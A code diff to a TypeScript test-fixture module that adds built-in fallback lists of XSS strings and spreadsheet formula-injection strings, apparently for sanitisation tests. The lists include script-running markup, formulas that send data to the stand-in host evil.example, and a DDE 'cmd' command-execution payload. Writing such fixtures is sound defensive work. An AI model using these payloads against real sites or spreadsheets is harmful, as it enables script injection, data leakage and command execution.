@@ -3,18 +3,49 @@ import { readFile, readdir } from 'node:fs/promises';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import * as z from 'zod/mini';
-import { sharedPath } from '../shared';
+import { sharedPath, withShared } from '../shared';
 import type { HandedFile } from './hand-over';
 
 const LIKE_MARKUP = /[<>]|javascript:|\bon\w+\s*=/i;
 
 const fixturesSchema = z.object({ default: z.array(z.object({ payload: z.string() })) });
 
+/** Titles alike would be groups of one offer. */
+const GOODS = ['mug', 'lamp', 'sock', 'chair', 'kettle', 'rope', 'tent', 'brush', 'clock', 'glove'];
+/** Own texts for where the shared collections are missing: each kind of them, of several goods. */
+const OWN_MARKUP = GOODS.flatMap((goods, n) => [
+  `<img src=x onerror=alert(${n})> ${goods}`,
+  `${goods} <svg onload=alert(${n})>`,
+  `"><script>alert(${n})</script> ${goods} case`,
+  `<a href="javascript:alert(${n})">${goods} bag</a>`,
+  `<b onmouseover=alert(${n})>small ${goods}</b>`,
+  `<iframe srcdoc="<script>alert(${n})</script>"> ${goods} toy`,
+]);
+
+const OWN_FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  ' =1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  ';=1+1',
+  ',=1+1',
+  '",=1+1,"',
+  `=HYPERLINK("https://evil.example/?"&1+1,"a")`,
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML("https://evil.example/","//a")',
+];
+
 /**
  * Texts that would be elements, or would run, where somebody took them for markup: DOMPurify's own
  * fixtures, the naughty strings and drawings with scripts. Their order is always the same.
  */
 export async function xssStrings(): Promise<string[]> {
+  if (withShared.skip) return OWN_MARKUP;
   const file = pathToFileURL(sharedPath('data/hostile/xss-dompurify/expect.mjs')).href;
   const fixtures = fixturesSchema.parse(await import(/* @vite-ignore */ file));
   const naughty = z
@@ -30,6 +61,7 @@ export async function xssStrings(): Promise<string[]> {
 
 /** Texts that a spreadsheet would take for formulas. */
 export function formulaStrings(): string[] {
+  if (withShared.skip) return OWN_FORMULAS;
   const text = readFileSync(sharedPath('data/hostile/csv-injection/strings.json'), 'utf8');
   return z.array(z.string()).parse(JSON.parse(text));
 }
